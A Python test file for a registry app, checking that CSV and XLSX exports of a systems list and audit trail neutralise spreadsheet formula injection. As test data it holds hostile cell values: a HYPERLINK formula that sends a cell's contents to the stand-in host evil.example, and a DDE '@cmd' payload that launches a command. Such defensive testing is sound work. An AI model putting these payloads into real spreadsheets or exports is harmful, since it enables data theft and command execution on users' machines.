"""The systems list as CSV and XLSX, as filtered, with formula injection neutralised."""

from __future__ import annotations

import csv
import io

import openpyxl

from registry.records import writes
from registry.sheets.exporting import neutral
from tests.records.samples import SAMPLES


def test_neutral_prefixes_what_would_run_as_a_formula():
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutral(text) == "'" + text
    assert neutral("plain") == "plain" and neutral(-3) == -3 and neutral(None) == ""


def test_the_systems_list_downloads_filtered_with_formulas_neutralised(
    client, login_as, session, officer
):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for reference, name, tier in (
        ("s-1", hostile, "high"),
        ("s-2", "@cmd|' /C calc'!A0", "minimal"),
    ):
        writes.create_system(
            session,
            officer,
            {**SAMPLES["profile"], "reference": reference, "name": name, "risk_tier": tier}
            | {"annex_iii_area": None},
        )
    session.commit()
    login_as("auditor")
    page = client.get("/systems?tier=high").get_data(as_text=True)
    assert "format=csv" in page and "format=xlsx" in page
    response = client.get("/systems?tier=high&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[0][:2] == ["Reference", "Name"]
    assert [r[:2] for r in rows[1:]] == [["s-1", "'" + hostile]]  # the filter holds

    response = client.get("/systems?format=xlsx&sort=reference")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    cells = [[c.value for c in row[:2]] for row in sheet.iter_rows(min_row=2)]
    assert cells == [["s-1", "'" + hostile], ["s-2", "'@cmd|' /C calc'!A0"]]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_audit_trail_downloads_with_its_filters(client, login_as, session, officer):
    for reference in ("a-1", "a-2"):
        system, _ = writes.create_system(
            session,
            officer,
            {**SAMPLES["profile"], "reference": reference, "name": "=2+2"},
        )
        writes.create_entry(session, officer, system, "risk", SAMPLES["risk"])
    session.commit()
    login_as("auditor")
    assert "format=csv" in client.get("/audit?system=a-1").get_data(as_text=True)
    response = client.get("/audit?system=a-1&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[0][:3] == ["Seq", "Recorded at (UTC)", "Action"]
    assert {r[3] for r in rows[1:]} == {"a-1"} and len(rows) == 3  # profile, risk
    response = client.get("/audit?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    systems = [row[3].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(s for s in systems if s) == ["a-1", "a-1", "a-2", "a-2"]
    assert client.get("/audit?system=nope&format=csv").status_code == 404
